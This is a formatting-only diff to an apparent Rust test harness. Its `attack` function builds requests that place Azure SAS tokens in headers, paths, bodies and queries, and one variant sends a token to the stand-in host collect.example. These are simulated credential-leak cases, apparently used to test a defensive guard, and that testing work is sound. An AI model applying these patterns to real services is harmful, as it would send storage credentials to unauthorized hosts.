@@ -23,10 +23,16 @@ fn attack(request: &IncomingRequest) -> String {
         Some("twice") => blob(&twice).send(),
         Some("beside a token") => blob(&proper).authorized(&surrogate("blob")).send(),
         Some("authorization") => blob(plain).authorized(&sas).send(),
-        Some("another field") => blob(plain).header("x-ms-copy-source", format!("https://{BLOBS}/x?{sas}")).send(),
+        Some("another field") => {
+            blob(plain).header("x-ms-copy-source", format!("https://{BLOBS}/x?{sas}")).send()
+        }
         Some("path") => blob(&path).send(),
-        Some("body") => Wanted { method: Method::Put, body: Some(body.as_bytes()), ..blob(plain) }.send(),
-        Some("another endpoint") => Wanted { authority: "management.azure.com", ..Wanted::get(&at_arm) }.send(),
+        Some("body") => {
+            Wanted { method: Method::Put, body: Some(body.as_bytes()), ..blob(plain) }.send()
+        }
+        Some("another endpoint") => {
+            Wanted { authority: "management.azure.com", ..Wanted::get(&at_arm) }.send()
+        }
         Some("elsewhere") => Wanted { authority: "collect.example", ..Wanted::get(&proper) }.send(),
         Some("token in the query") => {
             let path = format!("/hello/world.txt?{}", surrogate("blob"));
